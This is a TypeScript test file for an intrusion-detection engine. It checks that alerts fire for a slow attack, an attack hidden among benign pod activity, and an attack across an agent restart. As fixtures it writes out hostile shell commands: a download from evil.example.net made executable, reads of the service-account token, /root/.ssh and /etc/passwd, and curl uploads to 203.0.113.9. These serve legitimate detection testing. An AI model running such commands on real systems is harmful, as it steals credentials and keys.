/** Attacks that take their time, hide in noise, or meet an agent that restarts in the middle: the same alerts. */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../src/alerts/alert.ts';
import { Engine } from '../../src/engine.ts';
import { formatInstant, MICROS_PER_SECOND, type Micros } from '../../src/model/time.ts';
import { LEVELS } from '../../src/rules/rule.ts';
import { decodeLine } from '../../src/sources/json/decoder.ts';
import { shippedRuleSet } from '../support/replay.ts';
import { BENIGN } from './benign.ts';
import { type Json, type Setting, shellEvents } from './shell-events.ts';

const MINUTE: Micros = 60 * MICROS_PER_SECOND;
const POD = 'shop/victim-6d4cf56db6-x7k2p';

function titles(events: readonly Json[]): string[] {
  const engine = new Engine({ rules: shippedRuleSet() });
  const alerts: Alert[] = [];
  const ordered = [...events].sort((a, b) => String(a.time).localeCompare(String(b.time)));
  for (const event of ordered) {
    for (const change of engine.step(decodeLine(JSON.stringify(event))).changes)
      if (change.type === 'new') alerts.push(change.alert);
  }
  return alerts
    .filter(alert => LEVELS.indexOf(alert.rule.level) >= LEVELS.indexOf('medium'))
    .map(alert => alert.rule.title);
}

const STORY = [
  'curl -so /tmp/x https://evil.example.net/x',
  'chmod +x /tmp/x',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'tar czf /tmp/loot.tgz /root/.ssh',
  'curl -T /tmp/loot.tgz http://203.0.113.9/loot',
  'rm -f /tmp/loot.tgz',
];

const FOUND = [
  'Download made executable',
  'Service-account token read by hand',
  'Sensitive folders packed',
  'File sent to a bare address',
  'Dropped or stolen files removed afterwards',
];

const told = (setting: Setting, gap: Micros): Json[] =>
  STORY.flatMap((command, i) => shellEvents(command, { ...setting, at: MINUTE + i * gap }));

describe.each(['web', 'exec'] as const)('an attack by %s', entry => {
  it('step by step, minutes apart', () => {
    expect(titles(told({ entry, pod: POD }, 7 * MINUTE))).toEqual(expect.arrayContaining(FOUND));
  });

  it('among the ordinary life of other pods', () => {
    const noise = Array.from({ length: 4 }, (_, round) =>
      BENIGN.flatMap(({ command, setting }, i) =>
        shellEvents(command, {
          ...setting,
          // Each in a workload of its own: nobody does all of this in one.
          pod: setting.pod ?? `shop/app${i}-6d4cf56db6-x7k2p`,
          at: (round * BENIGN.length + i) * 2 * MICROS_PER_SECOND,
        }),
      ),
    ).flat();
    const quiet = titles(noise);
    const found = titles([...noise, ...told({ entry, pod: POD }, 3 * MINUTE)]);
    expect(found).toEqual(expect.arrayContaining(FOUND));
    expect(quiet).toEqual([]);
  });
});

describe('an agent that restarts in the middle', () => {
  const block = (execId: string, parentId: string, pid: number, binary: string, args: string, extra: Json): Json => ({
    exec_id: btoa(execId),
    parent_exec_id: btoa(parentId),
    pid,
    uid: 0,
    cwd: '/',
    binary,
    arguments: args,
    flags: 'execve clone inInitTree',
    in_init_tree: true,
    docker: 'a'.repeat(31),
    pod: {
      namespace: 'shop',
      name: 'victim-6d4cf56db6-x7k2p',
      workload: 'victim',
      workload_kind: 'Deployment',
      container: { id: `containerd://${'a'.repeat(64)}`, name: 'main', start_time: formatInstant(START - 60 * MINUTE) },
    },
    ...extra,
  });
  const START: Micros = 1_767_225_600 * MICROS_PER_SECOND;
  const exec = (at: Micros, process: Json, parent: Json): Json => ({
    process_exec: { process, parent },
    node_name: 'node-1',
    time: formatInstant(at),
  });
  const started = (at: Micros): Json => ({ start_time: formatInstant(at) });
  const scan = (at: Micros): Json => ({ start_time: formatInstant(at), flags: 'procFS auid inInitTree' });

  it('knows what hangs below the shell that was there before', () => {
    const server = block('n:1:100', 'n:0:1', 100, '/usr/local/bin/node', '/app.js', scan(START - 60 * MINUTE));
    const shell = block('n:2:200', 'n:1:100', 200, '/bin/sh', '-c x', started(START));
    // After the restart the same two processes have other exec_ids, as read from /proc.
    const server2 = block(
      'n:1x:100',
      'n:0:1',
      100,
      '/usr/local/bin/node',
      '/app.js',
      scan(START - 60 * MINUTE + 4_000),
    );
    const shell2 = block('n:2x:200', 'n:1x:100', 200, '/usr/bin/dash', '-c x', scan(START + 4_000));
    const id = block('n:3:300', 'n:2x:200', 300, '/usr/bin/id', '', started(START + 6 * MINUTE));
    const upload = block(
      'n:4:301',
      'n:2x:200',
      301,
      '/usr/bin/curl',
      '-T /tmp/d https://b.s3.amazonaws.com/d',
      started(START + 9 * MINUTE),
    );
    const found = titles([
      exec(START, shell, server),
      exec(START + 5 * MINUTE, server2, server2),
      exec(START + 5 * MINUTE + 1, shell2, server2),
      exec(START + 6 * MINUTE, id, shell2),
      exec(START + 9 * MINUTE, upload, shell2),
    ]);
    expect(found).toEqual(
      expect.arrayContaining(["System discovery from a server's shell", "Upload from an attacker's shell"]),
    );
  });

  it('finds a server that only a parent block ever named', () => {
    const server = block('n:1:100', 'n:0:1', 100, '/opt/app/orders-service', '', scan(START - 60 * MINUTE));
    const shell = block(
      'n:2:200',
      'n:1:100',
      200,
      '/bin/sh',
      '-c "curl -F f=@/etc/passwd http://203.0.113.9/"',
      started(START),
    );
    const curl = block(
      'n:3:300',
      'n:2:200',
      300,
      '/usr/bin/curl',
      '-F f=@/etc/passwd http://203.0.113.9/',
      started(START + 1_000),
    );
    const found = titles([exec(START, shell, server), exec(START + 1_000, curl, shell)]);
    expect(found).toContain('File sent to a bare address');
  });
});
